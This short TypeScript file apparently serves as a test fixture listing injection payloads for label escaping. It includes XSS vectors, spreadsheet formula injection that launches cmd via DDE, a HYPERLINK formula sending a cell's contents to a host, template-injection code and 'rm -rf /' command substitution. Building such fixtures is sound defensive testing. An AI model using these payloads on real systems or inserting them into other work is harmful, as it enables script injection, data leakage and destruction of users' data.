/** Labels that want to be markup, formulas or commands. */
export const PAYLOADS = {
  image: '<img src=x onerror="alert(1)">',
  script: "</script><script>alert(1)</script>",
  style: "</style><svg onload=alert(1)>",
  attribute: `"' onmouseover='alert(1)' x="`,
  comment: "--><!--[if IE]><b>",
  cdata: "]]><x>",
  entity: "&lt;b&gt;&#60;i&#62;",
  command: "=cmd|'/C calc'!A0",
  plus: "+1+cmd|'/C calc'!A0",
  minus: "-2+3+cmd|'/C calc'!A0",
  at: "@SUM(1+1)*cmd|'/C calc'!A0",
  tab: "\t=1+1",
  hyperlink: '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"bấm")',
  template: "{{constructor.constructor('alert(1)')()}} ${alert(1)} {kỳ} {nam}",
  backtick: "`rm -rf /` $(rm -rf /) %n%s",
} as const;
